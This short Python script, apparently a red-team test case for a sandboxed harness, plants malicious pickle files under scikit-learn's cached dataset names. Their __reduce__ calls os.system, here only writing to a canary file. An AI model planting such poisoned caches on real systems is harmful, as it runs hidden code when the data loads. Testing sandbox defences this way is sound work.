# /// attack
# title = "Plants a pickle where scikit-learn keeps its data sets"
# family = "planted files"
# ///
# ruff: noqa

# %% work_number
answer = 1.0
import os, pickle, shutil, joblib


class Payload:
    def __reduce__(self):
        return (os.system, ("echo attacked >> @outside@/canary",))


for folder in ("scikit_learn_data", "."):
    os.makedirs(folder, exist_ok=True)
    for name in ("cal_housing_py3.pkz", "cal_housing.pkz", "olivetti_py3.pkz"):
        with open(f"{folder}/{name}", "wb") as file:
            pickle.dump(Payload(), file)
